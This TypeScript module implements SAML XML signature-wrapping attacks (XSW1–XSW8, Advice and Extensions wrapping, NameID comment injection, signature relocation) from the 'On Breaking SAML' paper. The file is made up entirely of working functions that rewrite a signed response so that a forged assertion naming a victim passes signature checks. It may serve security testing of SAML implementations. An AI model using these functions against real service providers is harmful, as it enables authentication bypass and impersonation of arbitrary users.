/**
 * Signature-wrapping and related tampering of a signed response, written as DOM edits (with
 * @xmldom/xmldom) the way the attacks are described in "On Breaking SAML" (Somorovsky et al., 2012):
 * the signed original stays somewhere in the document so its digest still matches, and an evil
 * assertion naming the victim sits where a naive reader looks.
 */
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom'

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol'
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion'
const DSIG = 'http://www.w3.org/2000/09/xmldsig#'

export function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml')
}

export function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc)
}

const first = (parent: Document | Element, ns: string, name: string) =>
  parent.getElementsByTagNameNS(ns, name)[0] as Element

function directChild(parent: Element, ns: string, name: string): Element | null {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    const e = n as Element
    if (e.nodeType === 1 && e.namespaceURI === ns && e.localName === name) return e
  }
  return null
}

/** A copy of `assertion` without its signature, a new ID (unless `keepId`) and the victim's NameID. */
function evilAssertion(assertion: Element, victim: string, keepId = false): Element {
  const evil = assertion.cloneNode(true) as Element
  const signature = directChild(evil, DSIG, 'Signature')
  if (signature) evil.removeChild(signature)
  if (!keepId) evil.setAttribute('ID', `evil${crypto.randomUUID().replace(/-/g, '')}`)
  const nameId = first(evil, ASSERTION, 'NameID')
  nameId.textContent = victim
  return evil
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element
  const signature = directChild(copy, DSIG, 'Signature')
  if (signature) copy.removeChild(signature)
  return copy
}

type Edit = (doc: Document, response: Element, assertion: Element) => void

function edit(xml: string, change: Edit): string {
  const doc = parse(xml)
  const response = doc.documentElement as Element
  change(doc, response, first(doc, ASSERTION, 'Assertion'))
  return serialize(doc)
}

/** Response-signed variants. */
export const xsw1 = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    // Original response (unsigned copy) moved into the Signature; the root gets a new ID and an evil assertion.
    const original = withoutSignature(response)
    const signature = directChild(response, DSIG, 'Signature') as Element
    signature.appendChild(original)
    response.setAttribute('ID', `evil${crypto.randomUUID().replace(/-/g, '')}`)
    response.replaceChild(evilAssertion(assertion, victim), assertion)
  })

export const xsw2 = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    // Like XSW1, but the original sits before the Signature as a detached sibling.
    const original = withoutSignature(response)
    const signature = directChild(response, DSIG, 'Signature') as Element
    response.insertBefore(original, signature)
    response.setAttribute('ID', `evil${crypto.randomUUID().replace(/-/g, '')}`)
    response.replaceChild(evilAssertion(assertion, victim), assertion)
  })

/** Assertion-signed variants. */
export const xsw3 = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    response.insertBefore(evilAssertion(assertion, victim), assertion)
  })

export const xsw4 = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    const evil = evilAssertion(assertion, victim)
    response.replaceChild(evil, assertion)
    evil.appendChild(assertion)
  })

export const xsw5 = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    // The signed assertion is edited in place (signature kept); an unsigned copy of the original is appended.
    const copy = withoutSignature(assertion)
    first(assertion, ASSERTION, 'NameID').textContent = victim
    response.appendChild(copy)
  })

export const xsw6 = (xml: string, victim: string) =>
  edit(xml, (_doc, _response, assertion) => {
    // Edited in place; the unsigned original copy hidden inside the signature.
    const copy = withoutSignature(assertion)
    first(assertion, ASSERTION, 'NameID').textContent = victim
    ;(directChild(assertion, DSIG, 'Signature') as Element).appendChild(copy)
  })

export const xsw7 = (xml: string, victim: string) =>
  edit(xml, (doc, response, assertion) => {
    // The signed original goes into an Extensions element; an evil copy takes its place.
    const extensions = doc.createElementNS(PROTOCOL, 'saml2p:Extensions')
    response.insertBefore(extensions, first(doc, PROTOCOL, 'Status'))
    const evil = evilAssertion(assertion, victim, true)
    response.replaceChild(evil, assertion)
    extensions.appendChild(assertion)
  })

export const xsw8 = (xml: string, victim: string) =>
  edit(xml, (doc, _response, assertion) => {
    // Edited in place; the unsigned original inside a ds:Object of the signature.
    const copy = withoutSignature(assertion)
    first(assertion, ASSERTION, 'NameID').textContent = victim
    const object = doc.createElementNS(DSIG, 'ds:Object')
    object.appendChild(copy)
    ;(directChild(assertion, DSIG, 'Signature') as Element).appendChild(object)
  })

/** The signed original inside the evil assertion's Advice (the evil one has a new ID). */
export const inAdvice = (xml: string, victim: string) =>
  edit(xml, (doc, response, assertion) => {
    const evil = evilAssertion(assertion, victim)
    const advice = doc.createElementNS(ASSERTION, 'saml2:Advice')
    evil.insertBefore(advice, first(evil, ASSERTION, 'AuthnStatement'))
    response.replaceChild(evil, assertion)
    advice.appendChild(assertion)
  })

/** The signed original inside Extensions, the evil assertion with a fresh ID as the child. */
export const inExtensions = (xml: string, victim: string) =>
  edit(xml, (doc, response, assertion) => {
    const extensions = doc.createElementNS(PROTOCOL, 'saml2p:Extensions')
    response.insertBefore(extensions, first(doc, PROTOCOL, 'Status'))
    response.replaceChild(evilAssertion(assertion, victim), assertion)
    extensions.appendChild(assertion)
  })

/** The signed original inside a ds:Object of its own moved signature, on an evil assertion with a fresh ID. */
export const inObject = (xml: string, victim: string) =>
  edit(xml, (doc, response, assertion) => {
    const evil = evilAssertion(assertion, victim)
    response.insertBefore(evil, assertion)
    const signature = directChild(assertion, DSIG, 'Signature') as Element
    assertion.removeChild(signature)
    const object = doc.createElementNS(DSIG, 'ds:Object')
    signature.appendChild(object)
    object.appendChild(assertion)
    evil.insertBefore(signature, first(evil, ASSERTION, 'Subject'))
  })

export const prependAssertion = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    response.insertBefore(evilAssertion(assertion, victim), assertion)
  })

export const appendAssertion = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    response.appendChild(evilAssertion(assertion, victim))
  })

/** A comment inside the signed NameID text (exclusive C14N drops it, so the signature still holds). */
export const commentInNameId = (xml: string, at: string) =>
  edit(xml, (doc, _response, assertion) => {
    const nameId = first(assertion, ASSERTION, 'NameID')
    const text = nameId.textContent ?? ''
    const cut = text.indexOf(at) + at.length
    nameId.textContent = text.slice(0, cut)
    nameId.appendChild(doc.createComment(''))
    nameId.appendChild(doc.createTextNode(text.slice(cut)))
  })

/** Moves the assertion's signature (referencing the original ID) onto an evil assertion with a new ID. */
export const signatureOnEvilAssertion = (xml: string, victim: string) =>
  edit(xml, (_doc, response, assertion) => {
    const evil = evilAssertion(assertion, victim)
    const signature = directChild(assertion, DSIG, 'Signature') as Element
    evil.insertBefore(signature.cloneNode(true), first(evil, ASSERTION, 'Subject'))
    response.replaceChild(evil, assertion)
  })
